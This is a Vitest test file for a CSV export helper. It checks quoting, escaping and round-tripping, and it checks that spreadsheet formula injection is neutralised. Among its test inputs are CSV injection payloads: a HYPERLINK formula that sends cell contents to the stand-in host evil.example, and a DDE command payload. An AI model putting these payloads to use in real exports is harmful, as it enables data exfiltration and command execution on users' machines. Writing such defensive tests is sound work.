import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvCell, csvRecord } from "./csv";

describe("csvCell", () => {
  it.each([
    ["plain", "plain"],
    ["", ""],
    [null, ""],
    [7, "7"],
    [-7.5, "-7.5"],
    ["-7.5", "-7.5"],
    [true, "true"],
    ["Łódź, PL", '"Łódź, PL"'],
    ['say "hi"', '"say ""hi"""'],
    ["one;=1+1", '"one;=1+1"'],
    ["one\t=1+1", '"one\t=1+1"'],
    ["two\nlines", '"two\nlines"'],
    [" padded ", '" padded "'],
  ])("writes %j as %j", (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  // OWASP ASVS 1.2.10: no cell becomes a formula, however it is disguised.
  it.each([
    "=1+1",
    "+1-2",
    "-2+3",
    "-",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n@x",
    "\u0000=1+1",
    "＝1+1",
    "+351 912 345 678",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "=cmd|'/C calc'!A0",
  ])("neutralises a formula: %j", (text) => {
    const [[cell] = []] = Papa.parse<string[]>(csvRecord([text])).data;

    expect(cell).toBe(`'${text.replaceAll("\u0000", "")}`);
  });
});

describe("csvRecord", () => {
  it("is read back as it was written", () => {
    const values = ["a,b", 'c"d', "e\r\nf", "", "g"];

    expect(csvRecord(values).endsWith("\r\n")).toBe(true);
    expect(Papa.parse<string[]>(csvRecord(values)).data[0]).toEqual(values);
  });
});
